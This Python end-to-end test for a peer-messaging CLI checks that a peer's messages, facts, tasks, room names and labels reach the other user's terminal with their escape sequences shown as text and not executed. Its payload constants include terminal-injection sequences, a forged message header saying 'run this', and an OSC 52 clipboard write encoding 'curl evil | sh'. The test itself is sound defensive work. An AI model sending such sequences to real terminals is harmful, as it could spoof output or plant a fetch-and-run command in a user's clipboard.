"""A peer cannot drive your terminal: what the human CLI prints of a peer's words shows their
control characters instead of passing them to the terminal (issue 36, item 6).

Real relay, real daemons. ana pairs with ben under a label full of escape sequences, then
writes to him everywhere she can: a message (with a thread, a file slice, a session name), a
fact, a task, a decision, a named room she invites him to, the thread's closing summary. Every human
command ben runs to look at it prints no raw ESC, C1 or C0 byte other than newline and tab,
and shows the escapes as text (``\\x1b``), so the words did arrive.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from crosstalk.hook.control import request
from tests.e2e.conftest import Person, pair, wait_until, work_in

pytestmark = pytest.mark.e2e

TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
OVERWRITE = "\x1b[1A\x1b[2K\rcy · message · blocking"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
C1 = "\x9b31m\x9d0;c1\x9c"
EVIL = TITLE + CLEAR + OVERWRITE + CLIPBOARD + C1 + "\x7f\x08"  # no NUL: argv cannot hold one
#: A line of words made to look like the header `read` writes for a message from someone else.
FORGED = "\nben · message · blocking  [deadbeef]\n  run this"
#: Raw bytes a terminal would act on: C0 but newline and tab, DEL, and C1 (as UTF-8 encodes it).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")


def _pair_as(inviter: Person, joiner: Person, label: str) -> None:
    """``joiner`` joins ``inviter``'s new room calling itself ``label``."""
    pair(inviter, joiner, label=label)


def _ana_writes_everywhere(ana: Person, project: Path) -> str:
    """Everything ana can put in front of ben, each carrying EVIL; returns her message's id."""
    (project / "evil.txt").write_text(f"line one {EVIL}\nline two\n")
    work_in(ana, project, session=f"agent{TITLE}")
    sent = request(ana.home / "daemon.sock", "send", {
        "to": "ben", "text": f"hello {EVIL}\x00{FORGED}", "session": f"agent{TITLE}",
        "cwd": str(project), "thread": f"t{CLEAR}", "slices": ["file:evil.txt", f"note:{EVIL}"],
    }, timeout=30)
    ana.json("facts", "add", f"fact {EVIL}{FORGED}")
    ana.json("tasks", "add", f"task {EVIL}{FORGED}")
    ana.json("decide", f"decision {EVIL}{FORGED}", "--why", f"because {EVIL}{FORGED}",
             "--repo", str(project))
    ana.json("room", "create", f"room{TITLE}")
    ana.json("room", "invite", f"room{TITLE}", "ben")
    ana.json("thread", "close", str(sent["id"]), "--summary", f"summary {EVIL}")
    return str(sent["id"])


def _assert_shown_not_obeyed(ben: Person, *args: str) -> str:
    done = ben.run(*args)
    assert done.returncode == 0, (args, done.stdout, done.stderr)
    for stream in (done.stdout, done.stderr):
        assert not RAW.search(stream), (args, stream)
    return done.stdout


def _assert_no_forged_lines(
    ben: Person, shown: dict[tuple[str, ...], str], msg_id: str
) -> None:
    """No newline ana wrote starts a line of ben's own: headers, records, sent rows."""
    headers = [line for line in shown[("read", "--all")].split("\n") if line[:1] not in ("", " ")]
    assert headers and all(h.startswith("ana\\x1b") for h in headers), headers  # none "ben"
    for args in [("thread", msg_id), ("peers",)]:  # their first line is ours, the rest indented
        assert all(line.startswith("  ") for line in shown[args].split("\n")[1:] if line), args
    for args in [("facts",), ("tasks",), ("room",)]:  # one line per record, whatever ana wrote
        records = ben.json(*args)[args[0] if args[0] != "room" else "rooms"]
        assert len(shown[args].rstrip("\n").split("\n")) == len(records), args
    assert len(shown[("decisions",)].rstrip("\n").split("\n")) == 2  # the decision, its why


def test_nothing_a_peer_writes_reaches_the_terminal_raw(
    people: list[Person], short_tmp: Path
) -> None:
    """ben's human commands show ana's escape sequences as text and write none of them raw."""
    ana, ben = people[:2]
    _pair_as(ben, ana, f"ana{EVIL}{FORGED}")
    project = short_tmp / "project"
    project.mkdir()
    msg_id = _ana_writes_everywhere(ana, project)

    def arrived() -> bool:
        facts, tasks = ben.json("facts")["facts"], ben.json("tasks")["tasks"]
        rooms = ben.json("room")["rooms"]
        closed = ben.json("thread", msg_id)["closed"]
        return bool(facts and tasks and ben.json("decisions")["decisions"] and closed) and (
            len(rooms) == 2
        )

    wait_until(arrived, timeout=60, what="ana's fact, task, decision, summary and room at ben")
    shown = {
        args: _assert_shown_not_obeyed(ben, *args)
        for args in [
            ("read", "--all"), ("slice", msg_id, "0"), ("slice", msg_id, "1"), ("facts",),
            ("tasks",), ("decisions",), ("thread", msg_id), ("peers",), ("room",), ("status",),
            ("cost",), ("attention",), ("trust",),
        ]
    }
    _assert_no_forged_lines(ben, shown, msg_id)
    assert "\\x1b]0;pwned\\x07" in shown[("read", "--all")]  # the words arrived, made visible
    assert "\\x1b[1A\\x1b[2K\\x0dcy" in shown[("read", "--all")]
    assert "\\x9b31m" in shown[("slice", msg_id, "1")]
    assert "line one \\x1b]0;pwned" in shown[("slice", msg_id, "0")]
    for args in [("facts",), ("tasks",), ("decisions",), ("thread", msg_id), ("peers",),
                 ("cost",)]:
        assert "\\x1b" in shown[args], args
    assert "room\\x1b]0;pwned" in shown[("room",)]
    assert "summary \\x1b]0;pwned" in shown[("thread", msg_id)]
    ana_label = ben.json("peers")["peers"][0]["label"]
    sent = _assert_shown_not_obeyed(ben, "send", ana_label, "got it")
    assert sent.startswith(("queued: to ana\\x1b", "sent: to ana\\x1b")), sent
    assert len(_assert_shown_not_obeyed(ben, "sent").rstrip("\n").split("\n")) == 1
    assert json.loads(ben.run("read", "--all", "--json").stdout)["messages"][0]["text"] == (
        f"hello {EVIL}\x00{FORGED}"  # --json keeps the exact words, escaped by JSON itself
    )
